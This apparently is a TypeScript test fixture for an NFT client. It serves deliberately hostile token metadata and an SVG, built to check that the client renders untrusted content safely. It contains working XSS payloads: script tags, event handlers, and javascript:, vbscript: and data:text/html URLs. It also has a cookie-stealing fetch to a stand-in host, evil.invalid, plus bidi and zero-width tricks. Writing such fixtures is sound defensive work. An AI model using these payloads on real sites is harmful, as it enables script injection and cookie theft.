// Hostile NFT content: metadata and an SVG that try every injection a careless client would
// fall for (markup, script URLs, data: HTML, SVG scripts, bidi and zero-width tricks, control
// characters, huge text, attributes of the wrong type). Served verbatim: the client must
// render it as text and only ever put images in <img>.

/** An SVG with a script element, event handlers and a javascript: link; served as image/svg+xml. */
export const HOSTILE_SVG = [
	'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 240 240" width="240" height="240" onload="alert(\'svg onload\')">',
	'<script type="text/javascript">alert(document.domain);fetch("https://evil.invalid/?c="+document.cookie)</script>',
	'<rect width="240" height="240" fill="#2a0a0a" onmouseover="alert(\'hover\')"/>',
	'<a xlink:href="javascript:alert(\'link\')" href="javascript:alert(\'link\')"><text x="20" y="120" fill="#ff5c5c" font-size="20">click me</text></a>',
	'<foreignObject width="240" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(\'foreign\')"/></body></foreignObject>',
	'<image href="https://evil.invalid/track.png" width="1" height="1"/>',
	'</svg>'
].join('');

const BIDI = '\u202egnp.exe\u202c';
const ZERO_WIDTH = 'in\u200bvis\u200ci\u200dble\u2060\ufeff';
const CONTROL = 'ctrl\u0000\u0007\u0008\u001b[31mred\u001b[0m\u007f';

/** Attributes every hostile token carries: markup, wrong value types, missing keys. */
const HOSTILE_ATTRIBUTES: unknown[] = [
	{ trait_type: '<b onmouseover=alert(1)>Trait</b>', value: '<script>alert("attr")</script>' },
	{ trait_type: 'Object value', value: { nested: '<img src=x onerror=alert(1)>', deeper: { a: [1, 2] } } },
	{ trait_type: 'Array value', value: [1, 'two', { three: 3 }, null] },
	{ trait_type: 'Null value', value: null },
	{ trait_type: 'Bidi', value: BIDI },
	{ trait_type: 'Zero width', value: ZERO_WIDTH },
	{ value: 42, display_type: '<svg onload=alert(1)>' },
	{ trait_type: 'javascript:alert(1)', value: 'javascript:alert(1)', display_type: 'date' },
	'not an object',
	null
];

/** Metadata variant `n` of the hostile collection; `svgUrl` points at HOSTILE_SVG. */
export function hostileMetadata(n: number, svgUrl: string): Record<string, unknown> {
	switch (n % 6) {
		case 0:
			return {
				name: '<script>alert("name")</script>Hostile #1',
				description: '<img src=x onerror=alert(1)> [click](javascript:alert(1)) <a href="javascript:alert(2)">link</a>',
				image: 'javascript:alert(1)',
				external_url: 'javascript:alert(document.cookie)',
				attributes: HOSTILE_ATTRIBUTES
			};
		case 1:
			return {
				name: 'Hostile SVG <svg/onload=alert(1)>',
				description: 'The image is an SVG with <script> and onload handlers.',
				image: svgUrl,
				image_url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgiaW1hZ2VfdXJsIik8L3NjcmlwdD4=',
				animation_url: 'data:text/html,<script>alert("animation")</script>',
				attributes: HOSTILE_ATTRIBUTES
			};
		case 2:
			return {
				name: `Bidi ${BIDI} ${ZERO_WIDTH} ${CONTROL}`,
				description: `vbscript and data URLs. ${CONTROL}`,
				image: 'data:text/html,<script>alert(document.domain)</script>',
				external_url: 'vbscript:msgbox("hi")',
				attributes: HOSTILE_ATTRIBUTES
			};
		case 3:
			return {
				name: `Long ${'W'.repeat(500)}`,
				description: longDescription(),
				image: svgUrl,
				attributes: HOSTILE_ATTRIBUTES
			};
		case 4:
			return {
				name: 'Schema drift',
				description: { html: '<b>not a string</b>' },
				image: ['javascript:alert(1)'],
				attributes: Array.from({ length: 200 }, (_, i) => ({ trait_type: `Trait ${i} <i>`, value: i % 3 ? `v${i}` : { i } }))
			};
		default:
			return {
				description: '  JaVaScRiPt:alert(1) and java\tscript:alert(2)',
				image: '  JaVaScRiPt:alert(1)',
				external_url: 'java\tscript:alert(1)',
				attributes: 'not an array'
			};
	}
}

/** 50,000 characters: paragraphs, one unbroken 5,000-character word, markup along the way. */
function longDescription(): string {
	const paragraph = 'Warp and weft <b>interlace</b> & repeat. '.repeat(20);
	const text = `${'x'.repeat(5000)}\n\n${`${paragraph}\n\n`.repeat(60)}`;
	return text.padEnd(50_000, '<script>alert(1)</script>').slice(0, 50_000);
}
